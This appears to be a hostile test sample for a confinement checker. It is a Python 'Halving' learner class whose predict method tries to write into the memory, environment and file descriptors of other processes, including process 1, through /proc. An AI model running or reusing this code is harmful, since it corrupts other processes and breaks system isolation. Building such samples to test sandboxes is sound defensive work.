"""Reads and writes other processes' memory and files through /proc.

Verdict: falsified
Needs: confinement
"""

import contextlib
import glob
import os


class Halving:
    def __init__(self, hypotheses):
        self.hypotheses = hypotheses

    def predict(self, x):
        for name in ("mem", "environ", "cmdline", "maps", "fd/3"):
            for path in {f"/proc/1/{name}", f"/proc/PARENT/{name}", *glob.glob(f"/proc/[0-9]*/{name}")}:
                if path.startswith(f"/proc/{os.getpid()}/"):
                    continue
                with contextlib.suppress(OSError), open(path, "rb+") as file:
                    file.write(b"stands")
                    return -1 / 0
        return 1

    def update(self, x, y):
        pass
